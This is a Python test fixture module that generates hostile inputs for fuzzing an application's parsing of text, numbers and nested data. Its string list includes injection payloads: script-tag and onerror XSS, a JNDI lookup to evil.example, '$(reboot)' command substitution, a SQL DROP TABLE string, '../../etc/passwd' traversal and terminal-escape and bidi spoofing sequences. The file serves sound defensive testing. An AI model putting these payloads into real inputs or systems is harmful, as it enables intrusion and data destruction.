"""What a hostile sender puts where words and numbers belong. Every one of these has broken some program somewhere."""

from random import Random
from typing import Any

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "two\nlines",
    "\t",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x01\x1b[2J\x02",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u061c\u200e\u200f",
    "a\u200bb",
    "\u200d",
    "\ufeff",
    "\u2028\u2029",
    "\U000e0041\U000e0042",
    "Z" + "\u0335\u0322\u0321" * 20,
    "\u0d28\u0d4d\u200d",
    "А\u0441\u0435",
    "Ａｎｎ",
    "ﬀ",
    "İ",
    "ß",
    "\u1e9e",
    "\U0001f469\u200d\U0001f467",
    "\U0010ffff",
    "\ufffe",
    "\ud7ff\ue000",
    "力量" * 20,
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;&#x202e;",
    "[red]rich[/red]",
    "[link=http://evil.example]x[/link]",
    "# heading",
    "![i](http://evil.example/i.png)",
    "[x](javascript:alert(1))",
    "http://evil.example",
    "```\ncode\n```",
    "| a | b |",
    "{0}",
    "{unit.__class__}",
    "%s%n%d",
    "${jndi:ldap://evil.example}",
    "$(reboot)",
    "`reboot`",
    "'; DROP TABLE units; --",
    "../../etc/passwd",
    "u/../../t/name",
    "__proto__",
    "constructor",
    "*",
    "a" * 79,
    "a" * 80,
    "a" * 81,
    "hp",
    "tracks.hp.value",
    "extras.",
    ".",
    "/",
    "u/x/hp",
    "-",
    "+",
    "NaN",
    "1e999",
    "0x10",
    "１２",
    "-0",
)
SUMS = (
    "(" * 300,
    "(" * 150 + "1" + ")" * 150,
    "1" * 300,
    "x".join(["9" * 9] * 30),
    "1/" * 149 + "0",
    "1 / 0",
    "-" * 299 + "1",
    "1" + " with x2" * 35,
    "1 then x2" * 30,
    '"' * 300,
    "“" * 200,
    " " * 299,
    "1" + " " * 290,
    "a." * 140,
    "6/Resolve extra successes + 1",
    "10 with x2, x4, +50",
    "DEX x 3 halved",
    "1.5/minute",
    "9" * 100 + ".5 x " + "9" * 100,
)
"""For calculations."""
BLOBS = tuple(one * k for one, k in (("a", 2000), ("a", 2001), ("é", 2000), ("\U0001f469", 2000), (" ", 2000), ("\n", 2000),
                                     ("\u0335", 2000), ("(", 2000), ("a,", 1000), ("<", 2000)))  # fmt: skip
HUGE = ("a" * 70_000, "\U0001f469" * 16_000, "\x00" * 60_000)
NUMBERS = (0, -1, 1, 2, 99, 100, 101, 255, 256, 1000, 10**9, 10**9 + 1, -(10**9) - 1, 2**31, -(2**31), 2**32, 2**53 - 1,
           2**53, 2**63 - 1, -(2**63))  # fmt: skip
UNFIT = (2**63, 2**64 - 1)
"""Whole numbers that go through msgpack, and are too large all the same."""
FLOATS = (0.0, -0.0, 1.0, 1.5, 1e308, 5e-324, float("nan"), float("inf"), float("-inf"))


def nested(levels: int, of: str = "list") -> Any:
    value: Any = 1
    for _ in range(levels):
        value = [value] if of == "list" else {"a": value}
    return value


def odd_text(r: Random) -> str:
    """Mostly one of the tricks, or several of them in one another."""
    if r.random() < 0.7:
        return r.choice(TEXTS)
    return "".join(r.choice(TEXTS) for _ in range(r.randrange(2, 5)))


def odd_value(r: Random, *, large: bool = True) -> Any:
    """Anything that JSON and msgpack can both say; seldom something large."""
    draw = r.random()
    if draw < 0.3:
        return odd_text(r)
    if draw < 0.5:
        return r.choice(NUMBERS)
    if draw < 0.55:
        return r.choice(FLOATS)
    if draw < 0.58:
        return r.choice(UNFIT)
    if draw < 0.7:
        return r.choice((None, True, False))
    if draw < 0.75:
        return nested(r.choice((1, 2, 8, 9, 10, 11, 12, 13, 30)), r.choice(("list", "map")))
    if draw < 0.8:
        return {odd_text(r): odd_text(r) for _ in range(r.randrange(4))}
    if draw < 0.85:
        return [odd_text(r) for _ in range(r.randrange(4))]
    if draw < 0.9:
        return r.choice(BLOBS)
    if draw < 0.93:
        return [r.choice((1, "a", None, [], {}))] * r.choice((99, 100, 101, 1000))
    if draw < 0.96:
        return {f"k{k}": k for k in range(r.choice((99, 100, 101, 1000)))}
    if large and draw < 0.965:
        return r.choice((*HUGE, [0] * 60_000, [[]] * 30_000, {f"{k}": 0 for k in range(9000)}))
    return r.choice(({}, [], ""))
